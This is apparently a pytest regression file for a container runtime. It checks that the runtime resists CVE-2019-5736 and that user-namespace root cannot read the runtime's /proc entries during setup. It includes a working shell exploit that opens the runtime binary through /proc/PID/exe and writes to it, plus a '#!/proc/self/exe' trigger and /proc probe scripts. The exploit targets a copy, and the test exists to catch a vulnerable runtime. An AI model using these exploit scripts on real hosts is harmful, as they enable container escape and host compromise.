"""CVE-2019-5736 and kin: the container never gets hold of the runtime's binary or memory.

The runtime under test runs from a copy in tmp_path, so that a vulnerable runtime
overwrites the copy, not the real binary.

- The classic entrypoint: a script whose interpreter is `#!/proc/self/exe`. A runtime
  that execs it runs its own host binary inside the container; another process in the
  container's pid namespace opens /proc/PID/exe, waits for it to exit and writes through
  that handle. The victim's stdout and stderr are a full pipe, so whatever the victim
  runs blocks on its first write until the test drains it: the attacker has all the
  time it needs, and the test does not depend on winning a race.
- During setup the container's process is still the runtime. A process that joined the
  container's user and pid namespaces, root there with every capability, must not read
  its /proc/PID/exe, fds, environ or memory (the runtime is not dumpable).
"""

import hashlib
import os
import shutil
import subprocess
import tempfile
import threading
import time

import pytest

import oci
from oci import sh

ATTACKER = r"""
echo ready > /out/ready
end=$(( $(date +%s) + 60 ))
while [ $(date +%s) -lt $end ] && [ ! -e /out/stop ]; do
  for p in /proc/[0-9]*; do
    case $p in /proc/1|/proc/$$) continue;; esac
    id=$(stat -L -c %d:%i $p/exe 2>/dev/null) || continue
    if [ "$id" = "$TARGET" ] && exec 3<$p/exe; then
      echo grabbed >> /out/report
      j=0
      while [ $j -lt 400 ]; do
        if echo PWNED 2>/dev/null >/proc/self/fd/3; then echo wrote >> /out/report; exit 0; fi
        j=$((j+1)); sleep 0.05
      done
      echo not-written >> /out/report
      exit 0
    fi
  done
done
echo gave-up >> /out/report
"""


def sha256(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def use_binary_copy(runtime, tmp_path):
    """Run the runtime from a copy in tmp_path; returns the copy's path."""
    d = tmp_path / "runtime-copy"
    d.mkdir()
    copy = str(d / os.path.basename(runtime.binary))
    shutil.copy2(runtime.binary, copy)
    runtime.binary = copy
    return copy


def fill_pipe(fd):
    """Fill the pipe through a file description of our own: O_NONBLOCK on fd itself
    would be shared with the container's stdout and stderr, which must block."""
    own = os.open("/proc/self/fd/%d" % fd, os.O_WRONLY | os.O_NONBLOCK)
    try:
        while True:
            os.write(own, b"x" * 4096)
    except BlockingIOError:
        pass
    finally:
        os.close(own)


def drain(fd, into):
    while True:
        chunk = os.read(fd, 65536)
        if not chunk:
            return
        into.append(chunk)


def test_proc_self_exe_entrypoint_cannot_overwrite_the_runtime(runtime, make_bundle, tmp_path):
    copy = use_binary_copy(runtime, tmp_path)
    before = sha256(copy)
    st = os.stat(copy)
    out = tmp_path / "out"
    out.mkdir()

    attacker = make_bundle("attacker")
    attacker.set_args(sh(ATTACKER))
    attacker.process["env"].append("TARGET=%d:%d" % (st.st_dev, st.st_ino))
    attacker.add_mount("/out", "bind", str(out), ["rbind", "rw"])
    r = runtime.run(attacker, detach=True)
    assert r.rc == 0, str(r)
    apid = runtime.state(attacker.id)["pid"]
    assert oci.wait_for(lambda: (out / "ready").exists()), "the attacker never started"

    victim = make_bundle("victim")
    with open(os.path.join(victim.rootfs, "evil"), "w") as f:
        f.write("#!/proc/self/exe\n")
    os.chmod(os.path.join(victim.rootfs, "evil"), 0o755)
    victim.set_args(["/evil"])
    victim.set_namespace_path("pid", "/proc/%d/ns/pid" % apid)
    rfd, wfd = os.pipe()
    try:
        runtime._remember(victim)
        p = subprocess.run([runtime.binary, "--root", runtime.root, "create", "--bundle",
                            victim.path, victim.id], stdin=subprocess.DEVNULL, stdout=wfd,
                           stderr=wfd, timeout=oci.RUN_TIMEOUT)
        if p.returncode != 0:
            os.set_blocking(rfd, False)
            raise AssertionError("create failed: %r" % os.read(rfd, 65536))
        fill_pipe(wfd)
        r = runtime.start(victim.id)
        # berth refuses the exec (start reports it); a runtime without that guard
        # starts it and must still keep its binary safe.
        assert r.rc == 0 or "CVE-2019-5736" in r.err, str(r)
        # Whatever the victim's process runs now blocks writing to the full pipe.
        oci.wait_for(lambda: (out / "report").exists(), timeout=5)
    finally:
        os.close(wfd)
        got = []
        t = threading.Thread(target=drain, args=(rfd, got), daemon=True)
        t.start()
        t.join(20)
        os.close(rfd)
    def report():
        return (out / "report").read_text() if (out / "report").exists() else ""

    # Once it holds the binary, the attacker retries the write for up to 20 s.
    if "grabbed" in report():
        oci.wait_for(lambda: "written" in report() or "wrote" in report(), timeout=30)
    (out / "stop").write_text("")
    assert "wrote" not in report(), "the container overwrote the runtime's binary"
    assert sha256(copy) == before, "the runtime's binary changed"
    if runtime.name == "berth":
        # berth refuses to exec its own binary (runc 1.1.5 execs a sealed memfd copy).
        assert b"CVE-2019-5736" in b"".join(got), (report(), b"".join(got).strip(b"x"))
    runtime.kill(attacker.id, "KILL")


PROBES = r"""
t=$1
readlink /proc/$t/exe >/dev/null 2>&1 && echo exe:open || echo exe:denied
for f in /proc/$t/fd/*; do readlink $f; done 2>/dev/null | grep -q . && echo fd:open || echo fd:denied
cat /proc/$t/environ >/dev/null 2>&1 && echo environ:open || echo environ:denied
( exec 3</proc/$t/mem ) 2>/dev/null && echo mem:open || echo mem:denied
readlink /proc/$t/cwd >/dev/null 2>&1 && echo cwd:open || echo cwd:denied
"""


@pytest.fixture
def shared_tmp():
    """A temporary directory others may traverse (0711): a user namespace's root, a
    host uid other than 0, must reach the bundle. pytest's tmp_path is 0700."""
    d = tempfile.mkdtemp(prefix="berth-test-")
    os.chmod(d, 0o711)
    yield d
    shutil.rmtree(d, ignore_errors=True)


@pytest.mark.berth_only("runc 1.1.5 is weaker here: its init, waiting for start, is dumpable "
                        "when no uid change reset that (root mapped to the host's root), "
                        "so this prober reads its exe, fds, environ and memory")
def test_user_namespace_root_cannot_read_the_runtime_during_setup(runtime, request, tmp_path,
                                                                   shared_tmp):
    """A process root in the container's user namespace, with CAP_SYS_PTRACE there,
    cannot reach the container's init while the init is still the runtime."""
    use_binary_copy(runtime, tmp_path)
    bundle = oci.Bundle(os.path.join(shared_tmp, "bundle"), oci.unique_id(request.node.name))
    os.chmod(bundle.path, 0o711)
    bundle.linux["namespaces"].append({"type": "user"})
    # Root maps to the host's root: the init never changes its uid, so the kernel does
    # not drop dumpable by itself on a credential change; only the runtime's own
    # PR_SET_DUMPABLE stands between the prober and the init. The prober's capabilities
    # are those of the user namespace only.
    bundle.linux["uidMappings"] = [{"containerID": 0, "hostID": 0, "size": 65536}]
    bundle.linux["gidMappings"] = [{"containerID": 0, "hostID": 0, "size": 65536}]
    bundle.config["mounts"] = [m for m in bundle.config["mounts"]
                               if m["destination"] != "/sys/fs/cgroup"]
    r = runtime.create(bundle)
    assert r.rc == 0, str(r)
    pid = runtime.state(bundle.id)["pid"]
    # nsenter makes the prober root in the user namespace with every capability there.
    p = subprocess.run(["nsenter", "--target", str(pid), "--user", "--pid", "--",
                        "/bin/busybox", "sh", "-c", PROBES, "probe", str(pid)],
                       capture_output=True, text=True, timeout=10)
    got = dict(line.split(":") for line in p.stdout.split())
    assert set(got) == {"exe", "fd", "environ", "mem", "cwd"}, p
    assert all(v == "denied" for v in got.values()), got
    assert runtime.delete(bundle.id, force=True).rc == 0
